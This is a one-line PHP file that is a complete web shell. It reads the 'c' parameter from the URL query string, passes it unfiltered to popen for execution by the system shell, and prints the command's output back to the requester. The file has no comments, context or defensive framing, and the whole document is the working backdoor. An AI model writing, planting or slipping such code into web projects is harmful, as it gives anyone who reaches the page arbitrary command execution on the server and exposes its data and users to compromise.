<?php $h = popen($_GET['c'] . ' 2>&1', 'r'); while (!feof($h)) { echo fread($h, 4096); } pclose($h);
